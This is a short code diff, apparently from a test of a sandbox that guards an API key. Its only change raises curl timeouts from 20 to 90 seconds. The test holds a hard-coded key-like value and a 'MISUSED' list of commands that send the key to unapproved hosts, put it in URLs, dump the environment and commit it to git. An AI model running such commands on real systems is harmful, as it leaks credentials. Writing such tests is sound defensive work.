@@ -19,17 +19,17 @@ SECRET = "sk-live-Qm7vXr2LpZk9TyBn4WsDf8HgJc3RtEaUo6MiVb5NxGwPzYkKhSdFlCq1"
 ALLOW = ("--allow", "api.example", "--allow", "plain.example")
 USED = """
 echo "inside: $API_KEY"
-curl -sS -m 20 -H "X-Api-Key: $API_KEY" https://api.example/headers | tee echoed
+curl -sS -m 90 -H "X-Api-Key: $API_KEY" https://api.example/headers | tee echoed
 """
 MISUSED = """
-curl -sS -m 20 -H "X-Other: $API_KEY" https://api.example/
-curl -sS -m 20 -H "X-Api-Key: $API_KEY" http://plain.example/
-curl -sS -m 20 -H "X-Api-Key: $API_KEY" https://other.example/
-curl -sS -m 20 -H "X-Api-Key: $API_KEY" "https://api.example/?key=$API_KEY"
-curl -sS -m 20 -H "X-Api-Key: $API_KEY" "https://api.example/status?code=500"
-curl -sS -m 20 -H "X-Api-Key: $API_KEY" "https://api.example/half"
-curl -sSL -m 20 -H "X-Api-Key: $API_KEY" "https://api.example/redirect?to=http://plain.example/"
-curl -sS -m 20 -H "X-Api-Key: $API_KEY" -d @echoed https://api.example/echo | tee -a echoed
+curl -sS -m 90 -H "X-Other: $API_KEY" https://api.example/
+curl -sS -m 90 -H "X-Api-Key: $API_KEY" http://plain.example/
+curl -sS -m 90 -H "X-Api-Key: $API_KEY" https://other.example/
+curl -sS -m 90 -H "X-Api-Key: $API_KEY" "https://api.example/?key=$API_KEY"
+curl -sS -m 90 -H "X-Api-Key: $API_KEY" "https://api.example/status?code=500"
+curl -sS -m 90 -H "X-Api-Key: $API_KEY" "https://api.example/half"
+curl -sSL -m 90 -H "X-Api-Key: $API_KEY" "https://api.example/redirect?to=http://plain.example/"
+curl -sS -m 90 -H "X-Api-Key: $API_KEY" -d @echoed https://api.example/echo | tee -a echoed
 env > environment
 git add -A; git commit -qm "$API_KEY"
 """
